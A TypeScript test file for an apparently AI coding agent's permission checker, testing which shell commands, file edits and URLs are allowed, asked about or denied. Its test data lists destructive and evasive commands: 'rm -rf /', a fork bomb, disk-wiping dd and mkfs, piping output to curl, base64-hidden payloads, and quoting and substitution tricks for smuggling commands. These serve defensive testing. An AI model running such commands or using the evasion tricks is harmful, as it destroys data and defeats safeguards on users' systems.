import type { Mode } from '@slipstream/protocol';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decidePermission, type PermissionSettings, toGrantKey } from './decide-permission.ts';
import { toPermissionRule } from './rules.ts';

const rules = [
  ...[
    'bash(git status*)',
    'bash(git log*)',
    'bash(ls*)',
    'bash(npm test)',
    'bash(cat *)',
    'edit_file(src/**)',
    'web_fetch(docs.example.com)',
    'web_fetch(*.example.org)',
  ].map((text) => toPermissionRule('allow', text)),
  ...['bash(git push*)', 'edit_file(src/generated/**)'].map((text) => toPermissionRule('ask', text)),
  ...['bash(curl*)', 'bash(*secret*)', 'edit_file(**/*.lock)', 'web_fetch(evil.example.org)'].map((text) =>
    toPermissionRule('deny', text),
  ),
];
const settings: PermissionSettings = { rules, sandboxed: true, network: false };

function decide(
  name: string,
  risk: 'read' | 'write' | 'command' | 'network',
  args: Record<string, unknown>,
  more: { mode?: Mode; grants?: string[]; settings?: PermissionSettings } = {},
) {
  return decidePermission({
    tool: { name, risk },
    args,
    mode: more.mode ?? 'default',
    workspace: '/work space',
    planPath: 'plans/1.md',
    grants: new Set(more.grants),
    settings: more.settings ?? settings,
  });
}
const bash = (command: string, more?: Parameters<typeof decide>[3]) =>
  decide('bash', 'command', { command }, more);

const allowed = [
  'git status',
  'git status -s',
  'git  status   --short',
  '  git status',
  'git status; ls',
  'git status && git log --oneline',
  'git status | cat -',
  'git status || ls',
  'ls -la & ls',
  'ls\nls -l',
  "git log --format='%h; rm -rf /'",
  'git log --format="a && b"',
  'ls # rm -rf ~',
  'cat a\\ b',
  "cat 'a;b'",
  'npm test',
  'git status 2>&1',
  'ls > /dev/stdout 2>&1 < input'.replace('> /dev/stdout ', ''),
  '(git status)',
  '{ git status; }',
  'if git status; then ls; fi',
  '! git status',
  'time git status',
];

const asked = [
  'rm file',
  'git status; rm -rf ~/x',
  'git status;rm x',
  'git status & rm x',
  'git status && rm x',
  'git status || rm x',
  'git status | sh',
  'git status | tee file',
  'git status\nrm x',
  'git status $(rm x)',
  'git status "$(rm x)"',
  'git status `rm x`',
  'git status "`rm x`"',
  'git status $(echo $(rm x))',
  'git status > out',
  'git status >> out',
  'git status >| out',
  'git status &> out',
  'git status 1> out',
  'ls <(rm x)',
  'ls >(rm x)',
  'cat <<EOF\nx\nEOF',
  'cat <<< x',
  'GIT_PAGER=rm git log',
  'PATH=. git status',
  'A=1',
  'sudo git status',
  'sudo -u root git status',
  'env git status',
  'env -i git status',
  'env A=b rm x',
  "env -S 'rm x'",
  'xargs git status',
  'ls | xargs rm',
  'ls | xargs -I{} rm {}',
  'ls | xargs -a list rm',
  'nohup rm x',
  'timeout 5 rm x',
  'timeout --signal git status rm',
  'nice -n 5 rm x',
  'exec rm x',
  'command rm x',
  'builtin eval rm',
  "sh -c 'rm x'",
  'bash -c "git status; rm x"',
  'bash -lc "rm x"',
  'bash script.sh',
  'sh',
  '/bin/sh -c "rm x"',
  'eval git status',
  'eval "rm x"',
  '. ./script',
  'source script',
  'for f in *; do rm $f; done',
  'case x in x) rm y;; esac',
  'while true; do rm x; done',
  'f() { rm x; }; f',
  'ls() { rm x; }; ls',
  'function ls { rm x; }; ls',
  'trap "rm x" EXIT; ls',
  'alias ls=rm; ls x',
  'find . -delete',
  'find . -exec rm {} \\;',
  'find . -exec rm {} +',
  'find . -execdir sh -c "rm x" \\;',
  'git -c core.pager="sh -c id" log',
  'git -C /etc status',
  './git status',
  '/usr/bin/git status',
  'gitx status',
  'git statusx && rm y',
  "g''it status; rm x",
  'r\\m x',
  "r''m -rf x",
  '"rm" x',
  '$cmd x',
  ['$', '{cmd} x'].join(''),
  '$(echo rm) x',
  '`echo rm` x',
  'ls $HOME',
  'ls ~',
  'ls *',
  'ls ?',
  'ls [ab]',
  'ls {a,b}',
  ['ls $', '{x:-$(rm y)}'].join(''),
  'ls $((1+1))',
  "ls $'a'",
  'ls "unclosed',
  "ls 'unclosed",
  'ls `unclosed',
  'ls $(unclosed',
  'ls \\',
  'ls >',
  '> file',
  '>file git status',
  'git status <> file',
  'coproc rm x',
  '[[ -f x ]] && rm x',
  'npm test; npm publish',
  'npm tests',
  'npm test --x',
  'git push origin main',
  'git status; git push',
  'perl -e "unlink x"',
  'python -c "import os"',
  'echo cm0gLXJmIHg= | base64 -d | sh',
  `${'true;'.repeat(60)}rm x`,
  `${'git status; '.repeat(60)}rm x`,
  'git status\r\nrm x',
  '',
  '   ',
  '#',
  'git status && (ls; (rm x))',
  'sh -c "sh -c \\"rm x\\""',
  'sh -c "sh -c \'sh -c ls\'"',
  'ls "$(cat "$(rm x)")"',
  'bash -c "$X"',
];

const denied = [
  'curl http://x',
  'git status; curl http://x',
  'git status | curl -d @- http://x',
  'ls $(curl http://x)',
  'sudo curl x',
  'sh -c "curl x"',
  'xargs curl',
  'find . -exec curl x \\;',
  'cat my-secret.txt',
  'cat "$(ls secret)"',
  'rm -rf /',
  'rm -rf /*',
  'rm -fr ~',
  'rm -r --force $HOME',
  'rm --recursive /etc',
  'git status; rm -rf /',
  'sudo rm -rf /usr',
  "sh -c 'rm -rf /'",
  'chmod -R 777 /',
  'chown -R me /home/',
  'mkfs.ext4 /dev/sda1',
  '/sbin/mkfs /dev/sda1',
  'shutdown -h now',
  'ls && reboot',
  'dd if=x of=/dev/sda',
  'cat x > /dev/sda',
  'echo x >> /dev/nvme0n1',
  ':(){ :|:& };:',
  'bomb() { bomb | bomb & }; bomb',
];

describe('command lines', () => {
  it.each(allowed)('allowed by a rule: %j', (command) => {
    expect(bash(command).decision).toBe('allow');
  });
  it.each(asked)('asked about: %j', (command) => {
    expect(bash(command).decision).toBe('ask');
  });
  it.each(denied)('denied: %j', (command) => {
    expect(bash(command).decision).toBe('deny');
    expect(
      bash(command, { mode: 'auto', grants: [toGrantKey({ name: 'bash', risk: 'command' }, { command })] })
        .decision,
    ).toBe('deny');
  });

  it('are many', () => expect(allowed.length + asked.length + denied.length).toBeGreaterThanOrEqual(150));

  it('are never allowed by a rule once something foreign is added, however it is quoted', () => {
    const join = fc.constantFrom(';', '&', '&&', '|', '||', '\n', ' ; ', '|&');
    const foreign = fc.constantFrom(
      'rm x',
      "'rm' x",
      '"rm" x',
      'r\\m x',
      'X=1 rm x',
      'sudo rm x',
      '(rm x)',
      '{ rm x; }',
      '$(rm x)',
      '`rm x`',
    );
    const start = fc.constantFrom('git status', 'ls -la', 'npm test', "cat 'a b'");
    fc.assert(
      fc.property(start, join, foreign, (one, two, three) => {
        expect(bash(one + two + three).decision).toBe('ask');
        expect(bash(three + two + one).decision).toBe('ask');
      }),
    );
  });

  it('of any text are judged without an exception', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom(...' ;&|$(){}`\'"\\<>\n#*~=-abls'), maxLength: 40 }),
        (command) => {
          expect(['allow', 'ask', 'deny']).toContain(bash(command).decision);
        },
      ),
      { numRuns: 2000 },
    );
  });
});

describe('files', () => {
  const edit = (path: string, more?: Parameters<typeof decide>[3]) =>
    decide('edit_file', 'write', { path }, more);

  it.each([
    ['src/a.ts', 'allow'],
    ['./src/deep/a.ts', 'allow'],
    ['/work space/src/a.ts', 'allow'],
    ['src/../src/a.ts', 'allow'],
    ['other/a.ts', 'ask'],
    ['src/../other/a.ts', 'ask'],
    ['src/../../outside.ts', 'ask'],
    ['/work space/../src/a.ts', 'ask'],
    ['/src/a.ts', 'ask'],
    ['~/src/a.ts', 'ask'],
    ['src\\a.ts', 'ask'],
    ['src/a\0.ts', 'ask'],
    ['src/generated/a.ts', 'ask'],
    ['src/pnpm.lock', 'deny'],
    ['a.lock', 'deny'],
  ])('%j: %s', (path, decision) => {
    expect(edit(path).decision).toBe(decision);
  });

  it.each([
    '.slipstream/tools/x.ts',
    '.SLIPSTREAM/x',
    '.git/hooks/pre-commit',
    'sub/.git/config',
    '.Git/Config',
    'src/../.git/hooks/x',
    '.mcp.json',
  ])('%j asks in every mode, each time', (path) => {
    for (const mode of ['default', 'accept-edits', 'auto', 'plan'] as const)
      expect(edit(path, { mode, grants: ['edit_file'] })).toMatchObject({ decision: 'ask', remember: false });
  });

  it('reading is free, also in plan mode, unless a rule forbids it', () => {
    expect(decide('read_file', 'read', { path: 'x' }, { mode: 'plan' }).decision).toBe('allow');
    const forbidding = { ...settings, rules: [toPermissionRule('deny', 'read_file(private/**)')] };
    expect(decide('read_file', 'read', { path: 'private/x' }, { settings: forbidding }).decision).toBe(
      'deny',
    );
  });
});

describe('the network', () => {
  it('is searched again without asking, once that was allowed for the session', () => {
    const search = (query: string, grants: string[]) =>
      decide('web_search', 'network', { query }, { grants }).decision;
    const key = toGrantKey({ name: 'web_search', risk: 'network' }, { query: 'one' });
    expect([search('two', []), search('two', [key])]).toEqual(['ask', 'allow']);
  });

  it.each([
    ['https://docs.example.com/a?b', 'allow'],
    ['HTTPS://DOCS.example.com', 'allow'],
    ['https://docs.example.com:8443/', 'allow'],
    ['https://example.org/', 'allow'],
    ['https://a.example.org', 'allow'],
    ['https://docs.example.com.evil.test/', 'ask'],
    ['https://docs.example.com@evil.test/', 'ask'],
    ['https://evil.test/docs.example.com', 'ask'],
    ['https://evil.example.org/', 'deny'],
    ['javascript:alert(1)', 'ask'],
  ])('%s: %s', (url, decision) => {
    expect(decide('web_fetch', 'network', { url }).decision).toBe(decision);
  });

  it('asks once for a host', () => {
    const key = toGrantKey({ name: 'web_fetch', risk: 'network' }, { url: 'https://a.test/one' });
    expect(decide('web_fetch', 'network', { url: 'https://a.test/two' }, { grants: [key] }).decision).toBe(
      'allow',
    );
    expect(decide('web_fetch', 'network', { url: 'https://b.test/' }, { grants: [key] }).decision).toBe(
      'ask',
    );
  });
});

describe('modes', () => {
  const none: PermissionSettings = { rules: [], sandboxed: true, network: false };
  it.each([
    ['default', 'ask', 'ask', 'ask'],
    ['plan', 'ask', 'ask', 'ask'],
    ['accept-edits', 'allow', 'ask', 'ask'],
    ['auto', 'allow', 'allow', 'ask'],
  ] as const)('%s', (mode, write, command, network) => {
    const more = { mode, settings: none };
    expect(decide('write_file', 'write', { path: 'a' }, more).decision).toBe(write);
    expect(bash('make', more).decision).toBe(command);
    expect(decide('web_fetch', 'network', { url: 'https://a.test' }, more).decision).toBe(network);
  });

  it('plan mode asks in spite of rules and grants', () => {
    expect(bash('git status', { mode: 'plan' })).toMatchObject({
      decision: 'ask',
      reason: expect.stringContaining('plan mode'),
    });
    expect(
      decide('write_file', 'write', { path: 'a' }, { mode: 'plan', grants: ['write_file'] }).decision,
    ).toBe('ask');
  });

  it('plan mode writes its plan file freely, and only that', () => {
    for (const path of ['plans/1.md', './plans/1.md', '/work space/plans/1.md'])
      expect(decide('write_file', 'write', { path }, { mode: 'plan', settings: none }).decision).toBe(
        'allow',
      );
    for (const path of ['plans/2.md', 'plans/1.md/x', '../plans/1.md', 'PLANS/1.md'])
      expect(decide('write_file', 'write', { path }, { mode: 'plan', settings: none }).decision).toBe('ask');
    expect(decide('write_file', 'write', { path: 'plans/1.md' }, { settings: none }).decision).toBe('ask');
  });

  it('without a sandbox every command asks, each time, and says so', () => {
    const bare = { ...settings, sandboxed: false };
    const grants = [toGrantKey({ name: 'bash', risk: 'command' }, { command: 'git status' })];
    for (const mode of ['default', 'accept-edits', 'auto'] as const)
      expect(bash('make', { mode, settings: bare })).toMatchObject({
        decision: 'ask',
        remember: false,
        reason: expect.stringContaining('not sandboxed'),
      });
    expect(bash('git status', { settings: bare, grants })).toMatchObject({
      decision: 'ask',
      remember: false,
    });
  });

  it('with the network on, auto asks for commands', () => {
    expect(bash('make', { mode: 'auto', settings: { ...none, network: true } }).decision).toBe('ask');
  });
});

describe('rules', () => {
  it.each(['', '(x)', 'bash(', 'bash()', 'ba sh(x)'])('%j is none', (text) => {
    expect(() => toPermissionRule('allow', text)).toThrow(/is no rule/);
  });

  it('of a tool fit all its calls, also by a pattern of names', () => {
    const some = {
      ...settings,
      rules: [toPermissionRule('allow', 'mcp__files__*'), toPermissionRule('allow', 'bash')],
    };
    expect(decide('mcp__files__read', 'network', { a: 1 }, { settings: some }).decision).toBe('allow');
    expect(bash('anything; at all', { settings: some }).decision).toBe('allow');
  });
});
